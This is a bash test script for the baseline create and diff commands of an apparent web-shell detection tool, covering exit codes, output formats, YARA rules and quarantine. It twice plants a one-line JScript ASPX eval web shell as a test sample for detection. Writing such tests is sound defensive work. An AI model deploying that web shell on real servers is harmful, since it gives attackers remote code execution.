#!/usr/bin/env bash
# baseline_tests.sh - `exhunt baseline create` and `diff` as a user meets
# them: exit codes (docs/exit-codes.md: 0 same, 1 differences, 2 usage or
# runtime errors, 5 incomplete or nothing examined, 130 interrupted), -o
# written whole or not at all and refused inside a
# ROOT, the baseline file and the exhunt/1 output well-formed, a reference
# tree under another folder name, and evidence left as it was.
# Usage: baseline_tests.sh EXHUNT SRC_DIR
set -u
. "$(dirname "${BASH_SOURCE[0]}")/../common/lib.sh"
th_args "$@"
th_begin baseline
# check_baseline FILE N: a header then N well-formed records.
check_baseline() {
  python3 - "$1" "$2" <<'PY'
import json, sys
lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
h = json.loads(lines[0])
assert h["schema"] == "exhunt-baseline/1", h
assert "created" in h and "host" in h and isinstance(h["roots"], list), h
recs = [json.loads(l) for l in lines[1:]]
assert len(recs) == int(sys.argv[2]), len(recs)
for r in recs:
    for k in ("root", "path", "size", "mode", "mtime", "sha256"):
        assert k in r, (k, r)
    assert len(r["sha256"]) == 64 and not r["path"].startswith("/"), r
PY
}
# rules FILE: the sorted rule ids of the findings, one line.
rules() {
  python3 - "$1" <<'PY'
import json, sys
print(" ".join(sorted(o["rule"] for o in map(json.loads, open(sys.argv[1], encoding="utf-8"))
                      if o["type"] == "finding" and o["category"] == "baseline")))
PY
}

W="$TMP/srv/inetpub/wwwroot"
mkdir -p "$W/aspnet_client/system_web" "$TMP/b"
echo '<html></html>' >"$W/iisstart.htm"
echo '<configuration/>' >"$W/web.config"
echo 'old' >"$W/old.txt"
touch -d 2021-01-01 "$W"/*

# --- create -----------------------------------------------------------------
expect_rc 0 "create" -- "$EXHUNT" baseline create "$TMP/srv" -o "$TMP/b/base.jsonl"
if check_baseline "$TMP/b/base.jsonl" 3; then ok; else bad "baseline file malformed"; fi
expect_rc 0 "create to stdout" -- "$EXHUNT" baseline create "$TMP/srv"
if cmp -s <(tail -n +2 "$TMP/out") <(tail -n +2 "$TMP/b/base.jsonl"); then ok; else bad "stdout baseline differs"; fi
expect_rc 2 "-o inside ROOT" -- "$EXHUNT" baseline create "$TMP/srv" -o "$W/base.jsonl"
[ -e "$W/base.jsonl" ] && bad "-o inside ROOT was written" || ok
grep -q "refusing" "$TMP/err" && ok || bad "no refusal message"
expect_rc 2 "create: no ROOT" -- "$EXHUNT" baseline create
expect_rc 2 "no sub-command" -- "$EXHUNT" baseline
expect_rc 2 "bad sub-command" -- "$EXHUNT" baseline frob x
expect_rc 0 "help" -- "$EXHUNT" help baseline
expect_rc 2 "create: missing ROOT" -- "$EXHUNT" baseline create "$TMP/nope" -o "$TMP/b/x.jsonl"
expect_rc 0 "create --help" -- "$EXHUNT" baseline create --help

# --- diff: no change --------------------------------------------------------
expect_rc 0 "diff unchanged" -- "$EXHUNT" baseline diff "$TMP/b/base.jsonl" "$TMP/srv"
expect_rc 0 "diff unchanged jsonl" -- "$EXHUNT" baseline diff -f jsonl "$TMP/b/base.jsonl" "$TMP/srv"
th_check_jsonl baseline "$TMP/out" && ok || bad "jsonl (unchanged) malformed"
expect_rc 2 "diff: missing baseline" -- "$EXHUNT" baseline diff "$TMP/b/none.jsonl" "$TMP/srv"
expect_rc 2 "diff: no ROOT" -- "$EXHUNT" baseline diff "$TMP/b/base.jsonl"
expect_rc 2 "diff: -o inside ROOT" -- "$EXHUNT" baseline diff -o "$W/r.jsonl" "$TMP/b/base.jsonl" "$TMP/srv"

# --- diff: a compromise -----------------------------------------------------
printf '%s' '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>' \
  >"$W/aspnet_client/system_web/supp0rt.aspx"
echo '<configuration><x/></configuration>' >"$W/web.config"
rm "$W/old.txt"
chmod 600 "$W/iisstart.htm"
stat -c '%X %Y' "$W/aspnet_client/system_web/supp0rt.aspx" >"$TMP/times.before"
expect_rc 1 "diff compromised" -- "$EXHUNT" baseline diff -f jsonl "$TMP/b/base.jsonl" "$TMP/srv"
th_check_jsonl baseline "$TMP/out" && ok || bad "jsonl (compromised) malformed"
got=$(rules "$TMP/out")
want="exhunt.baseline.changed_script exhunt.baseline.meta_changed exhunt.baseline.new_script exhunt.baseline.removed_file"
[ "$got" = "$want" ] && ok || bad "baseline rules: got '$got'"
grep -q '"category":"webshell".*supp0rt.aspx' "$TMP/out" && ok || bad "no content finding for the shell"
grep -q '"severity":"high","rule":"exhunt.baseline.new_script"' "$TMP/out" && ok || bad "new_script not high"
stat -c '%X %Y' "$W/aspnet_client/system_web/supp0rt.aspx" >"$TMP/times.after"
cmp -s "$TMP/times.before" "$TMP/times.after" && ok || bad "diff changed atime/mtime of evidence"
expect_rc 1 "diff text" -- "$EXHUNT" baseline diff "$TMP/b/base.jsonl" "$TMP/srv"
grep -q "1 new, 1 changed, 1 mode/mtime only, 1 removed" "$TMP/out" && ok || bad "text summary line"
# Only a mode change, hidden by --min-severity: still a difference, exit 1.
expect_rc 0 "re-baseline" -- "$EXHUNT" baseline create "$TMP/srv" -o "$TMP/b/base2.jsonl"
chmod 644 "$W/iisstart.htm"
expect_rc 1 "meta-only hidden" -- "$EXHUNT" baseline diff --min-severity high -f jsonl "$TMP/b/base2.jsonl" "$TMP/srv"
th_check_jsonl baseline "$TMP/out" && ok || bad "jsonl (meta-only) malformed"

# --- a reference tree under another folder name -----------------------------
mkdir -p "$TMP/ref/wwwroot/owa" "$TMP/ex01/wwwroot-EX01/owa"
echo 'logon' >"$TMP/ref/wwwroot/owa/logon.aspx"
echo 'logon' >"$TMP/ex01/wwwroot-EX01/owa/logon.aspx"
echo 'shell' >"$TMP/ex01/wwwroot-EX01/owa/x.aspx"
touch -d 2021-01-01 "$TMP/ref/wwwroot/owa/logon.aspx" "$TMP/ex01/wwwroot-EX01/owa/logon.aspx"
expect_rc 0 "create reference" -- "$EXHUNT" baseline create "$TMP/ref/wwwroot" -o "$TMP/b/ref.jsonl"
expect_rc 1 "diff against reference" -- "$EXHUNT" baseline diff --no-content-scan --web wwwroot-EX01 -f jsonl "$TMP/b/ref.jsonl" "$TMP/ex01/wwwroot-EX01"
got=$(rules "$TMP/out")
[ "$got" = "exhunt.baseline.new_script" ] && ok || bad "reference diff: got '$got'"

# --- malformed baseline lines are notes, and the rest still compares --------
{ cat "$TMP/b/ref.jsonl"; echo 'garbage'; echo '{"root":1}'; } >"$TMP/b/bad.jsonl"
rm "$TMP/ex01/wwwroot-EX01/owa/x.aspx"
expect_rc 0 "malformed lines skipped" -- "$EXHUNT" baseline diff -f jsonl "$TMP/b/bad.jsonl" "$TMP/ex01/wwwroot-EX01"
th_check_jsonl baseline "$TMP/out" && ok || bad "jsonl (malformed baseline) malformed"
[ "$(grep -c '"baseline-malformed"' "$TMP/out")" = 2 ] && ok || bad "malformed lines not reported twice"

# --- a file over the content limit is still hashed and compared -------------
head -c 6000000 /dev/zero >"$TMP/ex01/wwwroot-EX01/owa/big.bin"
echo 'small' >"$TMP/ex01/wwwroot-EX01/owa/small.txt"
expect_rc 1 "large new file" -- "$EXHUNT" baseline diff --max-filesize 1M -f jsonl "$TMP/b/ref.jsonl" "$TMP/ex01/wwwroot-EX01"
th_check_jsonl baseline "$TMP/out" && ok || bad "jsonl (large file) malformed"
grep -q '"content-too-large".*big.bin' "$TMP/out" && ok || bad "no content-too-large note"
[ "$(rules "$TMP/out")" = "exhunt.baseline.new_file exhunt.baseline.new_file" ] && ok || bad "large file: got '$(rules "$TMP/out")'"
grep -q '"sha256":"'"$(sha256sum "$TMP/ex01/wwwroot-EX01/owa/big.bin" | cut -c1-64)"'"' "$TMP/out" && ok || bad "large file hash"

# --- the rule options of scan: a custom YARA rule on a changed file ----------
R="$TMP/rules/inetpub/wwwroot"
mkdir -p "$R"
echo 'hello' >"$R/a.aspx"
expect_rc 0 "create for rules" -- "$EXHUNT" baseline create "$TMP/rules" -o "$TMP/b/rules.jsonl"
printf 'rule Test_Marker { strings: $a = "EXHUNT_TEST_MARKER_42" condition: $a }\n' >"$TMP/b/m.yar"
printf '%s' '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%> EXHUNT_TEST_MARKER_42' >"$R/a.aspx"
content_rules() {
  python3 - "$1" <<'PY'
import json, sys
print(" ".join(sorted({o["rule"] for o in map(json.loads, open(sys.argv[1], encoding="utf-8"))
                       if o["type"] == "finding" and o["category"] != "baseline"})))
PY
}
expect_rc 1 "diff --rules" -- "$EXHUNT" baseline diff -f jsonl --rules "$TMP/b/m.yar" "$TMP/b/rules.jsonl" "$TMP/rules"
with_default=$(content_rules "$TMP/out")
case " $with_default " in *" Test_Marker "*) ok ;; *) bad "custom rule did not fire: '$with_default'" ;; esac
case " $with_default " in *" EXH_ASPX_JScript_Eval_Unsafe "*) ok ;; *) bad "default rules missing: '$with_default'" ;; esac
expect_rc 1 "diff --no-default-rules" -- "$EXHUNT" baseline diff -f jsonl --no-default-rules --no-heuristics --rules "$TMP/b/m.yar" "$TMP/b/rules.jsonl" "$TMP/rules"
[ "$(content_rules "$TMP/out")" = "Test_Marker" ] && ok || bad "--no-default-rules: got '$(content_rules "$TMP/out")'"
[ "$(rules "$TMP/out")" = "exhunt.baseline.changed_script" ] && ok || bad "--no-default-rules dropped the baseline finding"
expect_rc 1 "diff, only the heuristics" -- "$EXHUNT" baseline diff -f jsonl --no-default-rules "$TMP/b/rules.jsonl" "$TMP/rules"
[ "$(content_rules "$TMP/out")" = "exhunt.heur.request_exec" ] && ok || bad "heuristics only: got '$(content_rules "$TMP/out")'"
expect_rc 2 "rule options with create" -- "$EXHUNT" baseline create --rules "$TMP/b/m.yar" "$TMP/rules"
expect_rc 2 "rule options with --no-content-scan" -- "$EXHUNT" baseline diff --no-content-scan --rules "$TMP/b/m.yar" "$TMP/b/rules.jsonl" "$TMP/rules"
# As in scan: a rule file that does not load is an error said by name; the
# rest still runs (and the differences make the exit 1).
expect_rc 1 "a rule file that does not load" -- "$EXHUNT" baseline diff --rules "$TMP/b/none.yar" "$TMP/b/rules.jsonl" "$TMP/rules"
grep -q 'rule-load: .*none.yar' "$TMP/err" && ok || bad "a missing rule file not said"

# --- two ROOTs of one name would mix; refused, and nothing left at -o --------
mkdir -p "$TMP/p/www" "$TMP/q/www"
echo p >"$TMP/p/www/a.txt"
echo q >"$TMP/q/www/a.txt"
expect_rc 2 "create: two ROOTs named www" -- "$EXHUNT" baseline create "$TMP/p/www" "$TMP/q/www" -o "$TMP/b/www.jsonl"
grep -q 'baseline-root-names' "$TMP/err" && ok || bad "duplicate root names not said"
[ -e "$TMP/b/www.jsonl" ] && bad "a refused create left its output" || ok
ls "$TMP/b" | grep -q 'www.jsonl.*tmp' && bad "a refused create left its temp file" || ok

# --- diff findings feed quarantine: the new script goes, nothing else -------
Q="$TMP/qsrv/inetpub/wwwroot"
mkdir -p "$Q"
echo 'ok' >"$Q/index.htm"
expect_rc 0 "create for quarantine" -- "$EXHUNT" baseline create "$TMP/qsrv" -o "$TMP/b/q.jsonl"
echo 'new' >"$Q/x.aspx"
echo 'changed' >"$Q/index.htm"
expect_rc 1 "diff for quarantine" -- "$EXHUNT" baseline diff -f jsonl --no-content-scan "$TMP/b/q.jsonl" "$TMP/qsrv"
cp "$TMP/out" "$TMP/b/qdiff.jsonl"
expect_rc 0 "quarantine the diff's high findings" -- "$EXHUNT" quarantine --vault "$TMP/qv" --root "$TMP/qsrv" --findings "$TMP/b/qdiff.jsonl"
[ ! -e "$Q/x.aspx" ] && [ -f "$Q/index.htm" ] && ok || bad "diff -> quarantine moved the wrong files"

# --- exit codes of docs/exit-codes.md, and the output written whole -------------
# create: 5 when a file could not be read (the baseline has gaps, and says so)
mkdir -p "$TMP/lk/www"
echo a >"$TMP/lk/www/a.txt"
echo b >"$TMP/lk/www/b.txt"
chmod 0 "$TMP/lk/www/b.txt"
chmod 755 "$TMP" "$TMP/lk" "$TMP/lk/www"
mkdir -p "$TMP/lkout" && chmod 777 "$TMP/lkout"
if [ "$(id -u)" = 0 ]; then RUN_AS=(setpriv --reuid=65534 --regid=65534 --clear-groups); else RUN_AS=(); fi
expect_rc 5 "create: an unreadable file" -- "${RUN_AS[@]}" "$EXHUNT" baseline create "$TMP/lk/www" -o "$TMP/lkout/lk.jsonl"
grep -q 'b.txt' "$TMP/err" && check_baseline "$TMP/lkout/lk.jsonl" 1 && ok || bad "create: the unreadable file named, the rest recorded"
# create -o -: standard output
(cd "$TMP/b" && "$EXHUNT" baseline create -o - "$TMP/ref/wwwroot" >"$TMP/out" 2>/dev/null)
[ ! -e "$TMP/b/-" ] && check_baseline "$TMP/out" 1 && ok || bad "create -o - writes to stdout"
# diff: an empty ROOT against an empty baseline examined nothing: 5
mkdir -p "$TMP/nothing/www"
expect_rc 0 "create an empty baseline" -- "$EXHUNT" baseline create "$TMP/nothing/www" -o "$TMP/b/nothing.jsonl"
expect_rc 5 "diff: nothing examined" -- "$EXHUNT" baseline diff "$TMP/b/nothing.jsonl" "$TMP/nothing/www"
grep -q '^  nothing examined: no file under the path given' "$TMP/out" && ok || bad "diff: nothing examined said"
expect_rc 2 "diff: a ROOT that does not exist" -- "$EXHUNT" baseline diff "$TMP/b/nothing.jsonl" "$TMP/nothing/nope"
# diff -f csv: one row per finding, the summary on stderr
expect_rc 1 "diff csv" -- "$EXHUNT" baseline diff -f csv --no-content-scan "$TMP/b/ref.jsonl" "$TMP/ex01/wwwroot-EX01"
python3 - "$TMP/out" <<'PY' && ok || bad "diff csv: header and rows"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert rows and all(r["category"] == "baseline" for r in rows), rows
assert {r["rule"] for r in rows} == {"exhunt.baseline.new_file"}, rows
PY
grep -q '^baseline: ' "$TMP/err" && ok || bad "diff csv: the baseline line on stderr"
# create interrupted by SIGTERM: the previous baseline stays, byte for byte
mkdir -p "$TMP/slow/www"
python3 - "$TMP/slow/www" <<'PY'
import os, sys
for i in range(30):
    with open(os.path.join(sys.argv[1], "f%02d.bin" % i), "wb") as f:
        f.write(os.urandom(1 << 20))
PY
cp "$TMP/b/ref.jsonl" "$TMP/b/slow.jsonl"
th_interrupt TERM "$TMP/b/slow.jsonl" "$EXHUNT" baseline create --max-rate 4 "$TMP/slow/www" -o "$TMP/b/slow.jsonl"
[ "$rc" = 130 ] && grep -qx 'exhunt baseline: interrupted' "$TMP/err" && ok || bad "create: SIGTERM exits 130 with the message (rc $rc)"
cmp -s "$TMP/b/ref.jsonl" "$TMP/b/slow.jsonl" && ok || bad "create: the previous baseline kept"
ls "$TMP/b" | grep -q 'exhunt-tmp' && bad "create: a temporary left behind" || ok

th_end "baseline CLI tests"
